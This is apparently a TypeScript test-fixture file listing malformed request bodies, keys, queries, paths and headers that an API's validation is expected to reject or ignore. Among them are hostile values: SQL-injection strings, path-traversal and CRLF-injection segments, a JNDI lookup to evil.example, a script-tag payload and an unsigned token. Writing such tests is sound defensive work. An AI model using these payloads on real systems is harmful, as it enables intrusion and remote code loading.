// What may be wrong with a request whatever the route: its body as a whole, its media type, its key, its query, its path.

export interface BodyFault {
  readonly what: string;
  readonly payload: string | Buffer;
  readonly type?: string;
  readonly says: string;
}

const MALFORMED = '400 VALIDATION_FAILED';
const BROKEN_UTF8 = [
  ['a stray byte', [0xff]],
  ['a lonely continuation', [0x80]],
  ['an overlong slash', [0xc0, 0xaf]],
  ['a surrogate', [0xed, 0xa0, 0x80]],
  ['half a character', [0xe2, 0x82]],
  ['beyond Unicode', [0xf4, 0x90, 0x80, 0x80]],
] as const;

/** Bodies that are no good anywhere; `good` is one that is. */
export function bodyFaults(good: string, { limitBytes, isOptional }: { limitBytes: number; isOptional: boolean }): BodyFault[] {
  const texts: Record<string, string> = {
    'half of it': good.slice(0, -1),
    'it twice': `${good}${good}`,
    'it and a comma': `${good},`,
    'a list of it': `[${good}]`,
    'text of it': JSON.stringify(good),
    'single quotes': good.replaceAll('"', "'") === '{}' ? "{'a':1}" : good.replaceAll('"', "'"),
    'a comment': `/**/${good}`,
    'a byte order mark': `\ufeff${good}`,
    null: 'null',
    true: 'true',
    number: '3',
    text: '"x"',
    list: '[]',
    NaN: 'NaN',
    undefined: 'undefined',
    'a lone brace': '{',
    'white space': ' \n',
    'a NUL': '\0',
    'a NUL behind it': `${good}\0`,
    'a name without a value': '{"a"}',
    'the same as a form': 'a=1&b=2',
    '10,000 levels of lists': '['.repeat(limitBytes / 2 > 10_000 ? 10_000 : limitBytes / 2 - 1),
    '5,000 closed levels': `${'['.repeat(5000)}${']'.repeat(5000)}`,
    '3,000 levels of objects': `${'{"a":'.repeat(2700)}1${'}'.repeat(2700)}`,
    'a member 3,000 levels deep': `{"a":${'['.repeat(3000)}${']'.repeat(3000)}}`,
    'a number of 10,000 digits': `{"a":${'9'.repeat(10_000)}}`,
    '1,000 members': `{${Array.from({ length: 1000 }, (_, index) => `"m${index}":1`).join(',')}}`,
    ...(isOptional ? {} : { nothing: '', 'an empty object': '{}' }),
  };
  const huge = `{"a":"${'x'.repeat(limitBytes + 1 - 8)}"}`;
  return [
    ...Object.entries(texts).map(([what, payload]) => ({ what, payload, says: MALFORMED })),
    ...BROKEN_UTF8.map(([what, bytes]) => ({ what: `${what} in UTF-8`, payload: brokenText(bytes), says: MALFORMED })),
    { what: 'one byte too many', payload: huge, says: '413 PAYLOAD_TOO_LARGE' },
    ...wrongTypes.map((type) => ({ what: `sent as ${type}`, type, payload: good, says: '415 UNSUPPORTED_MEDIA_TYPE' })),
  ];
}

function brokenText(bytes: readonly number[]): Buffer {
  return Buffer.concat([Buffer.from('{"a":"'), Buffer.from(bytes), Buffer.from('"}')]);
}

const wrongTypes = [
  'text/plain',
  'text/json',
  'application/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/octet-stream',
  'application/jsonx',
  'application/problem+json',
  'application/json garbage',
  'application/json\ta',
  'application/json, text/plain',
  'application/json/x',
  'application',
  '/',
  'nonsense',
  '',
];

/** What a call without a body does not take, whatever it calls itself. */
export const uninvitedBodies = ['{"a":1}', '[]', 'null', '{', 'a=1', '"{}"', '0', '\0'];

export const keyFaults: readonly (readonly [what: string, key: string | string[] | undefined, says: string])[] = [
  ['none', undefined, '400 IDEMPOTENCY_KEY_REQUIRED'],
  ['empty', '', '400 IDEMPOTENCY_KEY_REQUIRED'],
  ...(
    [
      ['with hyphens', '3f2b8c4e-9a1d-4c6b-8e2f-0a1b2c3d4e5f'],
      ['in capitals', '3F2B8C4E9A1D4C6B8E2F0A1B2C3D4E5F'],
      ['one capital', '3f2b8c4e9a1d4c6b8e2f0a1b2c3d4e5F'],
      ['one digit short', '3f2b8c4e9a1d4c6b8e2f0a1b2c3d4e5'],
      ['one digit long', '3f2b8c4e9a1d4c6b8e2f0a1b2c3d4e5f0'],
      ['of version 1', '3f2b8c4e9a1d1c6b8e2f0a1b2c3d4e5f'],
      ['of version 7', '3f2b8c4e9a1d7c6b8e2f0a1b2c3d4e5f'],
      ['of another variant', '3f2b8c4e9a1d4c6bce2f0a1b2c3d4e5f'],
      ['in quotes', '"3f2b8c4e9a1d4c6b8e2f0a1b2c3d4e5f"'],
      ['in braces', '{3f2b8c4e9a1d4c6b8e2f0a1b2c3d4e5f}'],
      ['with a letter beyond f', '3f2b8c4e9a1d4c6b8e2f0a1b2c3d4e5g'],
      ['zero', '00000000000000000000000000000000'],
      ['SQL', "'; drop table outbox; --"],
      ['a wildcard', '*'],
      ['4,000 characters', 'a'.repeat(4000)],
      ['twice', ['3f2b8c4e9a1d4c6b8e2f0a1b2c3d4e5f', '3f2b8c4e9a1d4c6b8e2f0a1b2c3d4e5f']],
    ] as const
  ).map(([what, key]) => [what, key as string | string[], '400 IDEMPOTENCY_KEY_INVALID'] as const),
];

const uuidCursor = Buffer.from('0190a000-0000-7000-8000-00000000000a').toString('base64url');

/** Queries of a list that cannot be answered. */
export const queryFaults = [
  ...['0', '-1', '101', '1e1', '1.5', '03', '+5', '%205', 'x', '', '1,2', '9'.repeat(40), '%00', 'NaN', '0x10', '%D9%A5'].map(
    (limit) => `limit=${limit}`,
  ),
  'limit=1&limit=2',
  ...[
    'x',
    '',
    '0',
    'null',
    '%00',
    '../..',
    `${uuidCursor}=`,
    `${uuidCursor}A`,
    uuidCursor.slice(1),
    uuidCursor.toUpperCase(),
  ].map((cursor) => `cursor=${cursor}`),
  `cursor=${Buffer.from("' or 1=1--").toString('base64url')}`,
  `cursor=${Buffer.from('{"id":1}').toString('base64url')}`,
  `cursor=${uuidCursor}&cursor=${uuidCursor}`,
  `cursor=${'A'.repeat(5000)}`,
];

export const ignoredQueries = [
  'surprise=1',
  'limit_=0',
  '__proto__=1',
  'constructor[prototype]=1',
  '&&&',
  '=',
  'a=%F0%9F%8F%9F',
  'toString',
  '%',
];

const one = '0190a000-0000-7000-8000-00000000000a';
/** What is no UUID, as it stands in a path. */
export const idFaults = [
  ...[
    '7',
    '-1',
    '1e3',
    'null',
    'undefined',
    '*',
    '%2A',
    '%27',
    '%27%20or%201%3D1--',
    'me',
    'constructor',
    '__proto__',
    '%7B%7D',
    '[object%20Object]',
  ],
  ...[
    one.slice(1),
    `${one}0`,
    `%7B${one}%7D`,
    `urn:uuid:${one}`,
    one.replaceAll('-', ''),
    one.replaceAll('-', '_'),
    one.replace('a', 'g'),
  ],
  ...[
    `%20${one}`,
    `${one}%20`,
    `${one}%0A`,
    `${one};x`,
    `${one}%3Bx`,
    `${one}.json`,
    `${one},${one}`,
    `..%2F${one}`,
    `%EF%BB%BF${one}`,
  ],
  ...['%2e%2e', '%2E', '..', '.', '%252e%252e', '..%5c', '%c3%a9', '%F0%9F%8F%9F'],
];

/** In any parameter, whatever it is: bytes that are no text, and too many of them. */
export const segmentFaults: readonly (readonly [segment: string, says: string])[] = [
  ...['%00', 'a%00b', '%', '%f', '%ff', '%c0%af', '%ed%a0%80', '%E2%82', '%u0041'].map(
    (segment) => [segment, MALFORMED] as const,
  ),
  ['x'.repeat(200), '414 URI_TOO_LONG'],
  ['%41'.repeat(200), '414 URI_TOO_LONG'],
];

/** Other paths than the route's, however they look: each must lead nowhere, or to a parameter that is none. */
export const sidesteps: readonly (readonly [what: string, bend: (url: string) => string])[] = [
  ['two slashes in front', (url) => `/${url}`],
  ['three slashes in front', (url) => `//${url}`],
  ['a dot in front', (url) => `/.${url}`],
  ['there and back', (url) => `/x/..${url}`],
  ['there and back in disguise', (url) => `/x/%2e%2e${url}`],
  ['a slash behind', (url) => `${url}/`],
  ['two slashes behind', (url) => `${url}//`],
  ['a dot behind', (url) => `${url}/.`],
  ['back', (url) => `${url}/..`],
  ['back in disguise', (url) => `${url}/%2e%2e`],
  ['back with a semicolon', (url) => `${url}/..;/`],
  ['a backslash behind', (url) => `${url}\\`],
  ['a semicolon', (url) => `${url};x=1`],
  ['a NUL', (url) => `${url}%00`],
  ['a line break', (url) => `${url}%0d%0aX-Evil:%201`],
  ['a tab', (url) => `${url}%09`],
  ['a blank', (url) => `${url}%20`],
  ['half an escape', (url) => `${url}%`],
  ['a byte that is no text', (url) => `${url}%ff`],
  ['an ending', (url) => `${url}.json`],
  ['one part more', (url) => `${url}/x`],
  ['200 characters more', (url) => `${url}/${'x'.repeat(200)}`],
  ['capitals', (url) => url.replace(/^\/\w+/, (part) => part.toUpperCase())],
  ['one capital', (url) => url.replace(/^\/(\w)/, (_all, letter: string) => `/${letter.toUpperCase()}`)],
  ['two slashes within', (url) => url.replace(/(?<=\w)\//, '//')],
  ['backslashes', (url) => url.replaceAll('/', '\\')],
  ['slashes in disguise', (url) => `/${url.slice(1).replaceAll('/', '%2f')}`],
  ['escaped twice', (url) => url.replace(/^\/(\w)/, (_all, letter: string) => `/%25${letter.charCodeAt(0).toString(16)}`)],
  ['a question mark in disguise', (url) => `${url}%3fx`],
];

/** The same path in other words. */
export const spellings: readonly (readonly [what: string, bend: (url: string) => string])[] = [
  ['a letter escaped', (url) => url.replace(/^\/(\w)/, (_all, letter: string) => `/%${letter.charCodeAt(0).toString(16)}`)],
  [
    'the first word escaped',
    (url) =>
      url.replace(
        /^\/(\w+)/,
        (_all, word: string) => `/${[...word].map((letter) => `%${letter.charCodeAt(0).toString(16)}`).join('')}`,
      ),
  ],
  ['with an address', (url) => `http://127.0.0.1${url}`],
  ['with a query', (url) => `${url}?x=1`],
  ['with a fragment', (url) => `${url}#x`],
];

/** Headers that others have obeyed, and wild values of those that are only looked at. */
export const idleHeaders: Readonly<Record<string, string>> = {
  accept: 'nonsense',
  'accept-encoding': 'x'.repeat(2000),
  authorization: 'Bearer eyJhbGciOiJub25lIn0.e30.',
  cookie: 'session=1',
  forwarded: 'for=evil.example',
  host: 'evil.example',
  'if-match': '"x"',
  'if-modified-since': 'yesterday',
  'if-none-match': `"${'x'.repeat(3000)}"`,
  origin: 'https://evil.example',
  'purchase-session': 'st_x',
  range: 'bytes=0-1',
  referer: 'https://evil.example/',
  'user-agent': '${jndi:ldap://evil.example/a}',
  'x-forwarded-for': "127.0.0.1, evil.example, ' or 1=1--",
  'x-forwarded-host': 'evil.example',
  'x-forwarded-prefix': '/evil.example',
  'x-forwarded-proto': 'evil',
  'x-http-method-override': 'DELETE',
  'x-original-url': '/api/v1/ops/matches',
  'x-purchase-session': 'st_x',
  'x-request-id': '<script>alert(1)</script>',
};
